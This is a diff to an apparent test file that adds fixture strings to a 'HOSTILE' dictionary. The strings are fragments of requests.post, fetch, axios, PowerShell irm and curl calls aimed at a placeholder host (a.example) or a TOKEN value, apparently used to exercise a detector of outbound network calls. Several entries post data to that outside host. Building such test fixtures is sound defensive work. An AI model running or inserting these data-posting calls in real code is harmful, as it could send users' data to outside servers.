@@ -265,6 +265,23 @@ HOSTILE = {
     "cookies": "$a.Cookies.Add((New-Object Net.Cookie('a','b')))\n",
     "piped-values": "@{a=1} | irm https://a.example/ -Method Post\n",
     "pipes": "'a' | ",
+    "program-calls": f"requests.post('{TOKEN}', json={{'a': 1}})\n",
+    "program-nests": "requests.post(a(",
+    "program-tables": "axios({url:'https://a.example/', headers: {a: [",
+    "program-chains": ".post('https://a.example/').header('a','b')",
+    "program-joins": "'https://a.example/' + fetch(",
+    "program-doubles": "a = a + a\nfetch(`https://a.example/${a}`)\n",
+    "program-strings": "fetch(`${`${",
+    "program-unclosed": 'fetch("https://a.example/',
+    "program-comments": "/* fetch(https://a.example/) ",
+    "program-names": "client.a.b.",
+    "program-generics": "client<a<b, ",
+    "program-members": "a[0]",
+    "program-documents": "fetch(<<<A\n",
+    "program-formats": "'%s{}'.format('{}%s') % ",
+    "program-types": "new Client<A>() { { ",
+    "program-items": "$a[] = 'https://a.example/';\n",
+    "quotes-piped": "echo 'a' \"b\" ",
 }
 BEGINNINGS = {
     "": "",
@@ -272,6 +289,7 @@ BEGINNINGS = {
     "cmd": f'C:\\> curl "{TOKEN}" ',
     "powershell": f"irm {TOKEN} -Headers ",
     "program": f"PS C:\\> curl.exe {TOKEN} ",
+    "code": f"import requests\nrequests.post('{TOKEN}', headers=",
 }
 
 
